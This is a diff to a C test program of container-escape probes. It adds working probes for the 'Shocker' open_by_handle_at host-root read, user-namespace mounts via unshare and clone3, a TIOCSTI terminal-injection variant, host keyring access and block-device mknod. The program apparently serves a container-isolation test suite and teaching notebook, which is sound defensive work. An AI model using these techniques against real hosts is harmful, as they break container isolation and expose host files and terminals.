@@ -1,6 +1,9 @@
 /* Attacks a process inside a container may try, one per subcommand. Each prints one line:
- *   ESCAPED: <evidence>      the attack worked (nothing on the host was changed: writes are only
- *                             opened, or write back the value already there)
+ *   ESCAPED: <evidence>      it reached something of the host's: a file, a process, a device, an fd,
+ *                             a service, a machine-wide setting (nothing on the host is changed:
+ *                             writes are only opened, or write back the value already there)
+ *   ALLOWED: <evidence>      the kernel let it through, but what it made or changed is the
+ *                             container's own (a mount, a user namespace, an io_uring, its terminal)
  *   CONTAINED: <why>         the kernel refused it
  *   INFO: <data>             for the caller to judge (namespace identities)
  * Used by the escape test suite and notebook 05; built with gcc -static by minicontainer.payloads.
@@ -12,19 +15,26 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <linux/sched.h>  /* struct clone_args */
+#include <sched.h>
+#include <sys/ioctl.h>
 #include <sys/ipc.h>
 #include <sys/mount.h>
 #include <sys/msg.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/statfs.h>
 #include <sys/sysmacros.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
 #include <netinet/in.h>
 #include <arpa/inet.h>
+#include <dirent.h>
+#include <termios.h>
 #include <unistd.h>
 
 static int escaped(const char *what) { printf("ESCAPED: %s\n", what); return 1; }
+static int allowed(const char *what) { printf("ALLOWED: %s\n", what); return 1; }
 static int contained(const char *call) { printf("CONTAINED: %s: %s\n", call, strerror(errno)); return 0; }
 
 /* chroot into a subdirectory, climb "..", chroot there: is a host-only file visible? */
@@ -60,16 +70,20 @@ static int read_file(const char *path)
     return escaped("read it");
 }
 
-/* /dev/kmsg (char 1:11) is the host's kernel log: not in the container's /dev, but a node can be made. */
-static int mknod_and_read(unsigned major, unsigned minor)
+/* A node for one of the host's block devices (not in the container's /dev, but it can be made
+ * with CAP_MKNOD), then opened read-only: nothing is read. */
+static int mknod_and_open(unsigned major, unsigned minor)
 {
-    unlink("/host-device");
-    if (mknod("/host-device", S_IFCHR | 0600, makedev(major, minor)) != 0) return contained("mknod");
-    int fd = open("/host-device", O_RDONLY | O_NONBLOCK);
-    printf("ESCAPED: made a node for a host device; opening it: %s\n", fd >= 0 ? "worked" : strerror(errno));
-    if (fd >= 0) close(fd);
-    unlink("/host-device");
-    return 1;
+    char evidence[128];
+    unlink("/host-disk");
+    if (mknod("/host-disk", S_IFBLK | 0600, makedev(major, minor)) != 0) return contained("mknod");
+    int fd = open("/host-disk", O_RDONLY);
+    unlink("/host-disk");
+    if (fd < 0) return contained("mknod worked; open");
+    close(fd);
+    snprintf(evidence, sizeof evidence, "opened the host's block device %u:%u for reading (nothing read)",
+             major, minor);
+    return escaped(evidence);
 }
 
 static int mount_tmpfs(void)
@@ -77,7 +91,7 @@ static int mount_tmpfs(void)
     mkdir("/mnt", 0755);
     if (mount("attack", "/mnt", "tmpfs", 0, NULL) != 0) return contained("mount");
     umount("/mnt");
-    return escaped("mounted a filesystem");
+    return allowed("mounted a tmpfs (in the container's own mount namespace)");
 }
 
 static int release_agent(const char *controller)
@@ -126,7 +140,7 @@ static int allocate(long bytes)
         if (!p) return contained("malloc");
         memset(p, 1, chunk);  /* touch it: untouched memory is not charged */
     }
-    return escaped("allocated all of it");
+    return allowed("allocated all of it");
 }
 
 static int fill(const char *path, long bytes)
@@ -139,7 +153,7 @@ static int fill(const char *path, long bytes)
         if (write(fd, block, sizeof block) != sizeof block) { close(fd); unlink(path); return contained("write"); }
     close(fd);
     unlink(path);
-    return escaped("wrote all of it");
+    return allowed("wrote all of it");
 }
 
 static int connect_loopback(int port)
@@ -177,16 +191,135 @@ static int sysv_queue(void)
 
 static int euid(void)
 {
-    if (geteuid() == 0) return escaped("a setuid-root program ran with euid 0");
+    if (geteuid() == 0) return allowed("a setuid-root program ran with euid 0 (root of the container)");
     printf("CONTAINED: euid stays %d\n", geteuid());
     return 0;
 }
 
 static int seccomp_keyctl(void)
 {
-    /* KEYCTL_JOIN_SESSION_KEYRING with no name: a new anonymous session keyring, freed at exit. */
-    if (syscall(SYS_keyctl, 1, 0) < 0) return contained("keyctl");
-    return escaped("made a kernel keyring call (keyrings are not namespaced)");
+    /* KEYCTL_GET_KEYRING_ID of KEY_SPEC_USER_KEYRING, created if need be: keyrings belong to uids
+     * of the host's user namespace, so uid 0's keyring is the host root's. The caller compares ids. */
+    long id = syscall(SYS_keyctl, 0, -4, 1);
+    if (id < 0) return contained("keyctl");
+    printf("ESCAPED: reached uid 0's user keyring, id %ld (keyrings are not namespaced)\n", id);
+    return 1;
+}
+
+/* Write "0 <uid> 1" maps for the calling process, as `unshare -r` does. */
+static void map_own_ids(void)
+{
+    char map[64];
+    int fd = open("/proc/self/setgroups", O_WRONLY);
+    if (fd >= 0) { write(fd, "deny", 4); close(fd); }
+    snprintf(map, sizeof map, "0 %d 1", getuid() == 0 ? 0 : getuid());
+    fd = open("/proc/self/uid_map", O_WRONLY);
+    if (fd >= 0) { write(fd, map, strlen(map)); close(fd); }
+    snprintf(map, sizeof map, "0 %d 1", getgid() == 0 ? 0 : getgid());
+    fd = open("/proc/self/gid_map", O_WRONLY);
+    if (fd >= 0) { write(fd, map, strlen(map)); close(fd); }
+}
+
+/* Inside a new user namespace: which capabilities, and can it mount? */
+static int mount_in_new_user_ns(const char *how)
+{
+    char line[256], evidence[256], caps[32] = "?";
+    map_own_ids();
+    FILE *status = fopen("/proc/self/status", "r");
+    while (status && fgets(line, sizeof line, status))
+        if (sscanf(line, "CapEff: %31s", caps) == 1) break;
+    if (status) fclose(status);
+    if (mount("attack", "/tmp", "tmpfs", 0, NULL) != 0) return contained("mount in the new namespaces");
+    snprintf(evidence, sizeof evidence, "%s gave a new user namespace with CapEff %s, and a tmpfs mounted there",
+             how, caps);
+    return allowed(evidence);
+}
+
+static int userns_mount(void)
+{
+    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return contained("unshare(CLONE_NEWUSER|CLONE_NEWNS)");
+    return mount_in_new_user_ns("unshare");
+}
+
+static int clone3_userns_mount(void)
+{
+    struct clone_args args = {.flags = CLONE_NEWUSER | CLONE_NEWNS, .exit_signal = SIGCHLD};
+    long pid = syscall(SYS_clone3, &args, sizeof args);
+    if (pid < 0) return contained("clone3(CLONE_NEWUSER|CLONE_NEWNS)");
+    if (pid == 0) _exit(mount_in_new_user_ns("clone3") ? 0 : 1);  /* no stack given: the child runs on a copy */
+    int status;
+    waitpid(pid, &status, 0);
+    return WIFEXITED(status) && WEXITSTATUS(status) == 0;
+}
+
+/* TIOCSTI with bit 32 set: the kernel reads ioctl's request as 32 bits, so it is TIOCSTI still.
+ * The terminal is a pty of its own, made its controlling terminal (TIOCSTI on any other needs
+ * CAP_SYS_ADMIN); on a terminal the host hands a container, the byte would be typed into the
+ * host's shell. */
+static int tiocsti_high_bits(void)
+{
+    int master = posix_openpt(O_RDWR | O_NOCTTY);
+    if (master < 0 || unlockpt(master) != 0) return contained("open a pty");
+    char *name = ptsname(master);
+    int pipefd[2];
+    pipe(pipefd);
+    pid_t pid = fork();
+    if (pid == 0) {
+        char result = 'n', pushed = '#', got = 0;
+        setsid();
+        int slave = open(name, O_RDWR);  /* a session leader's first terminal becomes its controlling one */
+        struct termios raw;
+        tcgetattr(slave, &raw);
+        cfmakeraw(&raw);
+        tcsetattr(slave, TCSANOW, &raw);
+        if (syscall(SYS_ioctl, slave, (unsigned long)TIOCSTI | 1UL << 32, &pushed) != 0) {
+            result = (char)errno;
+        } else {
+            fcntl(slave, F_SETFL, O_NONBLOCK);
+            result = read(slave, &got, 1) == 1 && got == pushed ? 'y' : 'n';
+        }
+        write(pipefd[1], &result, 1);
+        _exit(0);
+    }
+    char result = 0;
+    read(pipefd[0], &result, 1);
+    waitpid(pid, NULL, 0);
+    if (result == 'y') return allowed("TIOCSTI | 1 << 32 pushed a byte into the terminal's input");
+    if (result == 'n') { printf("CONTAINED: the ioctl returned, but no byte arrived\n"); return 0; }
+    errno = result;
+    return contained("ioctl(TIOCSTI | 1 << 32)");
+}
+
+static int io_uring(void)
+{
+    unsigned char params[120] = {0};  /* struct io_uring_params, all zero: the defaults */
+    long fd = syscall(SYS_io_uring_setup, 4, params);
+    if (fd < 0) return contained("io_uring_setup");
+    close(fd);
+    return allowed("io_uring_setup gave an io_uring: its whole interface is reachable");
+}
+
+/* "Shocker": with CAP_DAC_READ_SEARCH, open_by_handle_at opens any inode of a filesystem by number.
+ * ext4's root directory is inode 2, generation 0: that opens the host filesystem's root through
+ * any file of it the container has, here the bind-mounted payload itself. */
+static int open_by_handle(const char *host_file)
+{
+    struct statfs fs;
+    char evidence[128];
+    if (statfs(host_file, &fs) != 0 || fs.f_type != 0xEF53) {
+        printf("CONTAINED: %s is not on ext4, whose handle format this attack uses\n", host_file);
+        return 0;
+    }
+    struct { unsigned int bytes; int type; unsigned int inode, generation; } handle = {8, 1, 2, 0};
+    int mount_fd = open(host_file, O_RDONLY);
+    int fd = open_by_handle_at(mount_fd, (struct file_handle *)&handle, O_RDONLY | O_DIRECTORY);
+    if (fd < 0) return contained("open_by_handle_at");
+    DIR *root = fdopendir(fd);
+    int entries = 0;
+    while (root && readdir(root)) entries++;
+    snprintf(evidence, sizeof evidence, "opened the root directory of the host's filesystem by handle "
+             "(%d entries)", entries);
+    return escaped(evidence);
 }
 
 int main(int argc, char **argv)
@@ -197,7 +330,7 @@ int main(int argc, char **argv)
     if (!strcmp(a, "chroot-escape")) return chroot_escape(arg);
     if (!strcmp(a, "write-sysctl")) return open_for_write("/proc/sys/kernel/core_pattern");
     if (!strcmp(a, "read-proc")) return read_file(arg);
-    if (!strcmp(a, "mknod-disk")) return mknod_and_read(atoi(arg), atoi(argv[3]));
+    if (!strcmp(a, "mknod-disk")) return mknod_and_open(atoi(arg), atoi(argv[3]));
     if (!strcmp(a, "mount")) return mount_tmpfs();
     if (!strcmp(a, "release-agent")) return release_agent(arg);
     if (!strcmp(a, "signal-host-pid")) return signal_pid(atoi(arg), 0);
@@ -211,6 +344,11 @@ int main(int argc, char **argv)
     if (!strcmp(a, "sysv-queue")) return sysv_queue();
     if (!strcmp(a, "euid")) return euid();
     if (!strcmp(a, "keyctl")) return seccomp_keyctl();
+    if (!strcmp(a, "userns-mount")) return userns_mount();
+    if (!strcmp(a, "clone3-userns-mount")) return clone3_userns_mount();
+    if (!strcmp(a, "tiocsti-high-bits")) return tiocsti_high_bits();
+    if (!strcmp(a, "io-uring")) return io_uring();
+    if (!strcmp(a, "open-by-handle")) return open_by_handle(arg);
     fprintf(stderr, "usage: attacks NAME [ARGS]\n");
     return 2;
 }
